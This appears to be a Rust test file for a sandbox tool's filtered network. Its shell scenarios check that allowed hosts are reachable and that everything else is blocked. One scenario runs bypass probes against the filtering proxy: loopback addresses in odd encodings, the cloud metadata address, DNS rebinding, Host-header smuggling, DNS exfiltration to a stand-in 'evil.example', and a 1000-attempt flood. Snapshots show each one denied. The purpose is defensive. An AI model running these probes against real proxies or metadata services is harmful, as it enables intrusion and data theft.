//! Networks of boxes: no network, a network that is filtered to named hosts, and published ports.

use std::collections::BTreeMap;
use std::fs;
use std::sync::LazyLock;

use crate::page::{self, assert_page, blocks};
use crate::scenario::{Scenario, Step, as_user, bake, hello_checkout, sleeping, tools};

/// The page's `kdl` blocks are the network declaration of the box `page`.
const PAGE: &str = include_str!("../../docs/network.md");
/// The shell lines that start the tests' resolver and servers before a script, and print the servers' log after it.
const PEERS: [&str; 2] = [
    "ifconfig lo 127.0.0.1 up; ifconfig lo:1 93.184.216.34 netmask 255.255.255.255; echo nameserver 127.0.0.1 >/etc/resolv.conf; mkdir -p /tmp/www; echo outside >/tmp/www/index.html
peers /tmp/www >/tmp/peers.log & peers=$!; trap 'kill $peers' EXIT; until grep -q ready /tmp/peers.log; do sleep 0.1; done",
    "echo; sort /tmp/peers.log | uniq -c | grep -E 'host|asked' | tr -s ' '",
];
/// Adds `--network-local 127.0.0.2` to each `boxlaunch run` of the page, because the tests' servers are at this address, which is
/// not on the internet. The page does not show the option.
const BEFORE_PAGE: &str = r#"ln -s /page work.box
boxlaunch() { if [ $1 = run ]; then shift; set -- run --network-local 127.0.0.2 "$@"; fi; command boxlaunch "$@"; }"#;
const RULES: &str = r#"
network "filtered" {
    allow "*.test.example" "127.0.0.2"
    allow "shut.test.example" port=81
    deny "no.test.example"
}
"#;
/// Puts `peers` into the business component, from which it attacks the filter.
const TOOLED: &str = "business {\n    file \"peers\" to=\"/peers\" mode=\"0755\"\n";

/// Clients that use the proxy of their environment, and clients that use none. The run of their box prints what was denied.
const CLIENTS: &str = r#"
boxlaunch run --rm --name net --network-local 127.0.0.2 /filtered >log 2>&1 & run=$!; inside() { boxlaunch exec --in "$@"; }
until inside agent net -- true 2>/dev/null; do sleep 0.1; done
for component in agent business; do inside $component net -- sh -c '
env | grep -c -i _proxy=http://198; grep nameserver /etc/resolv.conf; ls /sys/class/net
wget -qO- http://a.test.example/; unset http_proxy HTTP_PROXY; wget -qO- http://b.test.example/
nslookup c.test.example | grep -A1 Name; nslookup -type=aaaa c.test.example | grep -c "has AAAA"; nslookup no.test.example | tail -n 2 | head -n 1; wget -qO- http://no.test.example/' 2>&1; done
inside business net -- sh -c 'wget -qO- http://d.test.example/bytes/3000000 | wc -c; echo "post body" | wget -qO- --post-file=- http://d.test.example/echo
{ printf "GET http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 3128 | tr -d "\r" | grep -v date
{ printf "CONNECT a.test.example:8080 HTTP/1.1\r\nHost: a.test.example:8080\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 3128 | head -n 1
{ printf "\005\001\000\005\001\000\003\016a.test.example\000\120GET /index.html HTTP/1.0\r\nHost: a.test.example\r\n\r\n"; sleep 0.5; } | nc 198.19.0.1 1080 | tail -n 1
(unset http_proxy HTTP_PROXY; wget -qO- http://shut.test.example:81/ 2>&1)
for address in 127.0.0.2:80 198.18.7.7:80 8.8.8.8:53 192.168.0.1:80; do nc -w 1 ${address%:*} ${address#*:} </dev/null 2>&1 || echo "no $address"; done'
boxlaunch network net; boxlaunch stop net; wait $run; grep component log
"#;
/// Tries to get past the filter to targets that the rules do not allow, and prints the answer for each.
const EVIL: &str = r#"
boxlaunch run -q -d --name evil --network-local 127.0.0.2 /filtered; supervisor=$(boxlaunch inspect --json evil | sed 's/.*"supervisor":\([0-9]*\),.*/\1/')
boxlaunch exec evil -- sh -c '
ask() { { echo -ne "$1"; sleep 0.5; } | nc -w 9 198.19.0.1 3128; }
for target in 127.0.0.1:80 127.1:80 2130706433:80 0x7f000001:80 0177.0.0.1:80 0:80 [::1]:80 [::ffff:127.0.0.1]:80 [::ffff:7f00:1]:80 [fe80::1%25lo]:80 localhost:80 169.254.169.254:80 10.0.2.2:80 \
inside.test.example:80 public.test.example:80 metadata.test.example:80 rebind.test.example:80 rebind.test.example:80 no.test.example:80 NO.test.example.:80 test.example:80 a.test.example.evil.example:80 a.test.example:22 a.test.example@127.0.0.1:80 evil.example:80; do
ask "CONNECT $target HTTP/1.1\r\nHost: $target\r\nConnection: close\r\n\r\n" | head -n 1 | cut -d" " -f2 | tr "\n" " "; echo "$target"; done
echo; for url in http://127.0.0.1/ http://127.1/ http://inside.test.example/ http://a.test.example/to/127.0.0.1/ http://mixed.test.example/; do wget -qO- $url 2>&1 | tail -n 1; done
ask "GET http://a.test.example/ HTTP/1.1\r\nHost: inside.test.example\r\nConnection: close\r\n\r\n" | head -n 1
ask "CONNECT a.test.example:443 HTTP/1.1\r\nHost: a.test.example:443\r\n\r\nGET / HTTP/1.1\r\nHost: inside.test.example\r\n\r\n" | tr -d "\r" | grep -v "^$"
i=0; while [ $i -lt 40 ]; do i=$((i+1)); nslookup data$i.evil.example >/dev/null; done; /peers --attempts 1000 198.19.0.1:3128
wget -qO- http://a.test.example/' 2>&1
awk '/VmHWM/ { print ($2 < 65536) ? "below 64 MiB" : $2 }' /proc/$supervisor/status; ls -l /proc/$supervisor/fd | wc -l | awk '{ print ($1 < 60) ? "few files" : $1 }'
du -m $BOXLAUNCH_STATE/boxes/evil | awk '{ print ($1 < 10) ? "a log with a bound" : $1 }'; boxlaunch stop evil
"#;
/// Changes the rules of a box that publishes a port, while a connection is open, and prints the events of connections.
const CHANGES: &str = r#"
boxlaunch run -q -d --name live -p 0:8000/business --network-local 127.0.0.2 /filtered; port=$(boxlaunch port live | grep business | sed 's/.*://')
boxlaunch exec live -- sh -c 'mkdir /tmp/h; echo both >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h'; wget -qO- http://127.0.0.1:$port/
boxlaunch exec live -- sh -c '{ printf "CONNECT a.test.example:80 HTTP/1.1\r\nHost: a.test.example:80\r\n\r\n"; sleep 30; } | { nc 198.19.0.1 3128 >/tmp/tunnel; echo it has ended >>/tmp/tunnel; }' & tunnel=$!; sleep 1
boxlaunch exec live -- sh -c 'tr -d "\r" </tmp/tunnel'
boxlaunch network live deny a.test.example 2>&1 | head -n 5; sleep 1; boxlaunch exec live -- tail -n 1 /tmp/tunnel
boxlaunch exec live -- sh -c 'wget -qO- http://a.test.example/; wget -qO- http://b.test.example/' 2>&1
boxlaunch network live reload /filtered >/dev/null; boxlaunch exec live -- wget -qO- http://a.test.example/
boxlaunch network live allow other.example:8080 | grep other; boxlaunch network live allow localhost 2>&1 | head -n 1; boxlaunch network live reload /closed 2>&1 | head -n 3
(timeout 2 boxlaunch events --since 60s | cut -d' ' -f2- | grep connection | sed 's/[0-9]* bytes/N bytes/; s/[0-9]* received/N received/')
boxlaunch kill live; boxlaunch network live allow c.example 2>&1 | head -n 1; wait $tunnel
"#;
/// Publishes ports of a box without a network, which has no rules to change.
const PORTS: &str = r#"
boxlaunch run -q -d --name closed -p 8080:8000/business -p 127.0.0.3:8081:9 /closed; boxlaunch port closed | grep -v sock; boxlaunch network closed; boxlaunch network closed allow a.example 2>&1
boxlaunch exec closed -- sh -c 'mkdir /tmp/h; echo inside >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h; ls /sys/class/net; wget -qO- http://127.0.0.1:8000/; wget -qO- http://a.test.example/ 2>&1; nc -w 1 127.0.0.2 80 </dev/null || echo none; ip route'
wget -qO- http://127.0.0.1:8080/; wget -qO- http://127.0.0.1:8080/index.html; wget -qO- http://127.0.0.3:8081/ 2>&1
boxlaunch exec closed -- sh -c 'head -c 4000000 /dev/zero >/tmp/h/large'; wget -qO- http://127.0.0.1:8080/large | wc -c; wget -qO- http://127.0.0.2:8080/ 2>&1
boxlaunch run -q -p 8080:80 /closed -- true; boxlaunch stop closed; boxlaunch run -q -p 80:8000 /closed -- true; echo $?
"#;
/// Starts a box whose rules allow the host's loopback and its cloud's metadata service, with the `--network-local` options that these
/// rules need, and without a network. The box `public` has other rules, and no `--proxy`: see [`PROXY`].
const LOCAL: &str = r#"
ifconfig lo:2 169.254.169.254; mkdir /tmp/secret; echo a secret of the host >/tmp/secret/index.html
httpd -p 127.0.0.1:9999 -h /tmp/secret; httpd -p 169.254.169.254:80 -h /tmp/secret
reach() { for to in 127.0.0.1:9999 169.254.169.254:80 127.0.0.1:80 10.0.2.2:80; do boxlaunch exec $1 -- wget -qO- http://$to/ 2>&1; done; }
boxlaunch run -d --name none --network none /local 2>&1 | grep -v jail; reach none; boxlaunch network none; boxlaunch network none allow a.example 2>&1; boxlaunch kill none
boxlaunch run -d --name given --network-local localhost:9999 --network-local 169.254.169.254 --network-local 10.0.0.0/8 /local 2>&1 | grep -v 'jail\|verified'
reach given; boxlaunch network given | grep although; boxlaunch network given reload /local | grep -c 9999; boxlaunch kill given
boxlaunch run -q -d --name public --network-local 127.0.0.2 /filtered; boxlaunch exec public -- wget -qO- http://far.test.example/ 2>&1
boxlaunch network public | sed -n '/so far:/,$p' | cut -d: -f1-3; boxlaunch network --json public | grep -o '"failed":.*' | grep -c far.test.example; echo; reach public; boxlaunch network public reload /local 2>&1
boxlaunch network public allow 127.0.0.1:9999 | grep 9999; reach public; boxlaunch kill public; killall httpd
"#;
/// The rules of the box `local`, which [`LOCAL`] starts.
const LOCAL_RULES: &str = r#"
network "filtered" {
    allow "127.0.0.1" port=9999
    allow "169.254.169.254" port=80
    allow "10.0.0.0/8"
}
"#;
/// A box whose components have separate networks.
const APART: &str = r#"
boxlaunch run -q -d --name apart -p 8080:8000/business --network-local 127.0.0.2 /apart
for component in agent business; do boxlaunch exec --in $component apart -- sh -c 'wget -qO- http://a.test.example/; nc -w 1 198.18.0.1 3128 </dev/null && echo agents; nc -w 1 198.19.0.1 3128 </dev/null && echo business' 2>&1 | grep -v nc:; done
boxlaunch exec --in business apart -- sh -c 'mkdir /tmp/h; echo apart >/tmp/h/index.html; httpd -p 127.0.0.1:8000 -h /tmp/h'; wget -qO- http://127.0.0.1:8080/; boxlaunch stop apart
"#;
/// A host that the virtual host reaches through its proxy alone.
const PROXY: &str = r#"
boxlaunch run -q -d --name behind --proxy http://127.0.0.4:3128 --network-local 127.0.0.2 /filtered
boxlaunch exec behind -- sh -c 'wget -qO- http://far.test.example/; unset http_proxy HTTP_PROXY; wget -qO- http://far.test.example/; wget -qO- http://evil.example/ 2>&1'; boxlaunch kill behind
"#;

static STEPS: LazyLock<BTreeMap<String, Step>> = LazyLock::new(|| {
    let tools = tools();
    let dir = tempfile::tempdir().unwrap();
    let at = |name: &str| dir.path().join(name);
    hello_checkout(dir.path());
    fs::copy(&tools.programs.peers, at("peers")).unwrap();
    let filtered = sleeping("filtered").replace("business {\n", TOOLED) + RULES;
    let apart = sleeping("apart").replace("limits", "namespaces net=#true\n    limits") + RULES;
    let local = sleeping("local") + LOCAL_RULES;
    let mut host = tools.host.clone().file(&tools.programs.peers, "/bin/peers");
    // The page's rules do not allow 127.0.0.2, the address of the tests' servers.
    // The page starts its box several times, and only one of them could publish a port.
    let lines = blocks(PAGE, "kdl").into_iter().filter(|it| !it.starts_with("publish "));
    let page = sleeping("work") + &lines.collect::<Vec<_>>().join("\n") + "\n";
    let page = page.replace("    deny \"up", "    allow \"127.0.0.2\"\n    deny \"up");
    let boxes = [
        ("filtered", filtered),
        ("closed", sleeping("closed")),
        ("apart", apart),
        ("page", page),
        ("local", local),
    ];
    for (name, text) in boxes {
        fs::write(at("Boxfile"), text).unwrap();
        bake(&at("Boxfile"), &tools.programs.box_init, &at(name));
        host = host.file(at(name), format!("/{name}"));
    }
    let [before, after] = PEERS;
    let with_peers = |script: &str| format!("{before}\n{script}\n{after}");
    let in_directory = |name: &str, script: &str| {
        let own =
            format!("mkdir /tmp/{name}; cd /tmp/{name}; export BOXLAUNCH_STATE=/tmp/{name}/state");
        with_peers(&format!("{own}\n{script}"))
    };
    Scenario::default()
        .script(30, "root", &in_directory("root", CLIENTS))
        .script(30, "user", &with_peers(&as_user(CLIENTS)))
        .script(120, "evil", &in_directory("evil", EVIL))
        .script(60, "changes", &in_directory("changes", CHANGES))
        .script(60, "ports", &in_directory("ports", PORTS))
        .script(30, "page", &with_peers(&page::script(PAGE, BEFORE_PAGE)))
        .script(90, "local", &in_directory("local", LOCAL))
        .script(30, "apart", &in_directory("apart", APART))
        .script(30, "proxy", &in_directory("proxy", PROXY))
        .start(&host)
});

fn the_page_shows_what_happens() {
    let mut step = STEPS["page"].clone();
    // The last block of the output is the servers' log.
    step.stdout.truncate(step.stdout.rfind("\n\n").unwrap_or_default() + 1);
    assert_page(PAGE, &step);
}

fn what_only_the_proxy_of_the_host_reaches_needs_the_option() {
    let (shown, log) = STEPS["proxy"].stdout.rsplit_once("\n\n").unwrap();
    insta::assert_snapshot!(shown, @"
    behind
    outside
    outside
    wget: bad address 'evil.example'
    behind
    ");
    let (_, direct) = STEPS["local"].stdout.split_once("public\n").unwrap();
    insta::assert_snapshot!(direct.split_once("\n\n").unwrap().0, @"
    wget: server returned error: HTTP/1.1 502 Bad Gateway
    failed so far:
        far.test.example:80: could not connect
    1
    ");
    assert!(log.contains("proxy CONNECT host far.test.example:80"), "{log}");
    assert!(log.contains("127.0.0.2:80 GET / HTTP/1.1 host far.test.example"), "{log}");
    assert!(!log.contains("host evil.example"), "{log}");
}

fn clients_reach_what_is_allowed_whether_they_know_of_a_proxy_or_not() {
    insta::assert_snapshot!(STEPS["root"].stdout, @r#"
    6
    nameserver 198.18.0.1
    lo
    outside
    outside
    Name:	c.test.example
    Address: 198.18.0.3
    0
    ** server can't find no.test.example: NXDOMAIN
    wget: bad address 'no.test.example'
    6
    nameserver 198.19.0.1
    lo
    outside
    outside
    Name:	c.test.example
    Address: 198.19.0.3
    0
    ** server can't find no.test.example: NXDOMAIN
    wget: bad address 'no.test.example'
    3000000
    post body
    HTTP/1.1 403 Forbidden
    content-type: text/plain; charset=utf-8
    connection: close
    content-length: 134

    The box cannot connect to evil.example:80: it is not allowed.
    To allow it, add this to `network` in the Boxfile: allow "evil.example"
    HTTP/1.1 403 Forbidden
    outside
    wget: error getting response: Connection reset by peer
    nc: can't connect to remote host (127.0.0.2): Connection refused
    no 127.0.0.2:80
    nc: can't connect to remote host (198.18.7.7): Connection refused
    no 198.18.7.7:80
    nc: can't connect to remote host (8.8.8.8): Network is unreachable
    no 8.8.8.8:53
    nc: can't connect to remote host (192.168.0.1): Network is unreachable
    no 192.168.0.1:80
    network "filtered" {
        allow "*.test.example"
        allow "127.0.0.2"
        allow "shut.test.example" port=81
        deny "no.test.example"
    }
    at most 128 connections at once, 64.0 MiB per second, 300 names per minute
    allowed although not on the internet: 127.0.0.2
    denied so far:
        no.test.example: the rules deny no.test.example, 8 times
        evil.example:80: it is not allowed; to allow it: allow "evil.example"
        a.test.example:8080: it is allowed, but not its port 8080; to allow it: allow "a.test.example" port=8080
        shut.test.example:81: 127.0.0.2 is not a host of the internet (loopback), and that address is not allowed at this port
    net
    boxlaunch: the agent component: no.test.example denied: the rules deny no.test.example
    boxlaunch: the business component: no.test.example denied: the rules deny no.test.example
    boxlaunch: the business component: evil.example:80 denied: it is not allowed; to allow it: allow "evil.example"
    boxlaunch: the business component: a.test.example:8080 denied: it is allowed, but not its port 8080; to allow it: allow "a.test.example" port=8080
    boxlaunch: the business component: shut.test.example:81 denied: 127.0.0.2 is not a host of the internet (loopback), and that address is not allowed at this port

     2 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
     2 127.0.0.2:80 GET / HTTP/1.1 host b.test.example
     1 127.0.0.2:80 GET /bytes/3000000 HTTP/1.1 host d.test.example
     1 127.0.0.2:80 GET /echo HTTP/1.1 host d.test.example
     1 127.0.0.2:80 GET /index.html HTTP/1.0 host a.test.example
     3 asked for a.test.example
     2 asked for b.test.example
     2 asked for d.test.example
     1 asked for shut.test.example
    "#);
}

fn an_ordinary_user_has_the_same() {
    assert_eq!(STEPS["user"].stdout, STEPS["root"].stdout, "{:?}", STEPS["user"]);
}

fn nothing_gets_past_the_filter() {
    let evil = &STEPS["evil"].stdout;
    for own in [" 127.0.0.1:80 GET", " 127.0.0.1:443 GET", " 93.184.216.34:80 GET"] {
        assert!(!evil.contains(own), "the host's own server was reached: {evil}");
    }
    insta::assert_snapshot!(evil, @"
    evil
    403 127.0.0.1:80
    400 127.1:80
    400 2130706433:80
    400 0x7f000001:80
    400 0177.0.0.1:80
    400 0:80
    403 [::1]:80
    403 [::ffff:127.0.0.1]:80
    403 [::ffff:7f00:1]:80
    400 [fe80::1%25lo]:80
    403 localhost:80
    403 169.254.169.254:80
    403 10.0.2.2:80
    403 inside.test.example:80
    403 public.test.example:80
    403 metadata.test.example:80
    200 rebind.test.example:80
    403 rebind.test.example:80
    403 no.test.example:80
    403 NO.test.example.:80
    403 test.example:80
    403 a.test.example.evil.example:80
    403 a.test.example:22
    400 a.test.example@127.0.0.1:80
    403 evil.example:80

    wget: server returned error: HTTP/1.1 403 Forbidden
    wget: server returned error: HTTP/1.1 400 Bad Request
    wget: server returned error: HTTP/1.1 403 Forbidden
    wget: server returned error: HTTP/1.1 403 Forbidden
    outside
    HTTP/1.1 400 Bad Request
    HTTP/1.1 200 OK
    denied 1000
    outside
    below 64 MiB
    few files
    a log with a bound
    evil

     1 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
     1 127.0.0.2:80 GET / HTTP/1.1 host mixed.test.example
     1 127.0.0.2:80 GET /to/127.0.0.1/ HTTP/1.1 host a.test.example
     3 asked for a.test.example
     2 asked for inside.test.example
     1 asked for metadata.test.example
     1 asked for mixed.test.example
     1 asked for public.test.example
     2 asked for rebind.test.example
    ");
}

fn rules_change_while_a_box_runs() {
    insta::assert_snapshot!(STEPS["changes"].stdout, @r#"
    live
    both
    HTTP/1.1 200 OK

    network "filtered" {
        allow "*.test.example"
        allow "127.0.0.2"
        allow "shut.test.example" port=81
        deny "a.test.example"
    it has ended
    wget: server returned error: HTTP/1.1 403 Forbidden
    outside
    outside
        allow "other.example" port=8080
    error: invalid value 'localhost' for '<PEER>...': write a domain, an address or a network, such as example.com, *.example.com:8080 or 10.0.0.0/8
    error: the box /closed has no rules: its network is "none"
      = help: declare `network "filtered"` in its Boxfile, build it, and start it again
    connection live business a.test.example:80 denied: the rules deny a.test.example
    connection live business a.test.example:80 denied: the rules deny a.test.example
    connection live business b.test.example:80 allowed, N bytes sent, N received
    connection live business a.test.example:80 allowed, N bytes sent, N received
    live
    error: the box live is not running

     1 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
     1 127.0.0.2:80 GET / HTTP/1.1 host b.test.example
     2 asked for a.test.example
     1 asked for b.test.example
    "#);
}

fn ports_are_published_in_every_mode_and_a_box_without_a_network_has_no_device() {
    insta::assert_snapshot!(format!("{}\n{}", STEPS["ports"].stdout, STEPS["ports"].stderr), @r#"
    closed
    8000/tcp of business -> 127.0.0.1:8080
    9/tcp of agent -> 127.0.0.3:8081
    network "none"
    published: 127.0.0.1:8080:8000/business
    published: 127.0.0.3:8081:9/agent
    error: the box closed has no rules: its network is "none"
      = help: declare `network "filtered"` in its Boxfile, build it, and start it again
    lo
    inside
    wget: bad address 'a.test.example'
    none
    inside
    inside
    wget: error getting response
    4000000
    wget: can't connect to remote host (127.0.0.2): Connection refused
    closed
    1


    nc: can't connect to remote host (127.0.0.2): Connection refused
    error: cannot publish a port at 127.0.0.1:8080: Address in use (os error 98)
      = help: another program uses it: publish another port, or 0 for any free port, which `boxlaunch port` shows
    error: cannot publish a port at 127.0.0.1:80: Address in use (os error 98)
      = help: another program uses it: publish another port, or 0 for any free port, which `boxlaunch port` shows
    "#);
}

fn components_with_networks_of_their_own_have_filters_of_their_own() {
    insta::assert_snapshot!(STEPS["apart"].stdout, @"
    apart
    outside
    agents
    outside
    business
    apart
    apart

     2 127.0.0.2:80 GET / HTTP/1.1 host a.test.example
     2 asked for a.test.example
    ");
}

fn what_is_not_on_the_internet_is_given_by_the_command_line_alone() {
    let out = &STEPS["local"].stdout;
    // With `--network none` it reaches nothing, and `boxlaunch network` cannot change that while it runs.
    let (_, out) = out.split_once("none\n").unwrap();
    let (none, out) = out.split_once("boxlaunch: the box reaches ").unwrap();
    assert!(!none.contains("secret") && none.contains("network \"none\""), "{none}");
    assert!(none.contains("was started with `--network none`"), "{none}");
    // With all options, the box `given` reaches the hosts that its rules allow. The box `public` reaches 127.0.0.1:9999 only
    // after `boxlaunch network public allow`.
    assert!(out.starts_with("10.0.0.0/8, 127.0.0.1:9999, 169.254.169.254:80\n"), "{out}");
    let (given, public) = out.split_once("public\n").unwrap();
    assert_eq!(given.matches("a secret of the host\n").count(), 2, "{given}");
    assert!(given.contains("allowed although not on the internet: "), "{given}");
    let (before, after) = public.split_once("allow \"127.0.0.1\" port=9999\n").unwrap();
    assert!(!before.contains("secret"), "{before}");
    assert!(
        before.contains("yours to give: 10.0.0.0/8 (private), 127.0.0.1:9999 (loopback)"),
        "{before}"
    );
    assert_eq!(after.matches("a secret of the host\n").count(), 1, "{after}");
}

tests![
    the_page_shows_what_happens,
    what_only_the_proxy_of_the_host_reaches_needs_the_option,
    clients_reach_what_is_allowed_whether_they_know_of_a_proxy_or_not,
    an_ordinary_user_has_the_same,
    nothing_gets_past_the_filter,
    rules_change_while_a_box_runs,
    ports_are_published_in_every_mode_and_a_box_without_a_network_has_no_device,
    components_with_networks_of_their_own_have_filters_of_their_own,
    what_is_not_on_the_internet_is_given_by_the_command_line_alone
];
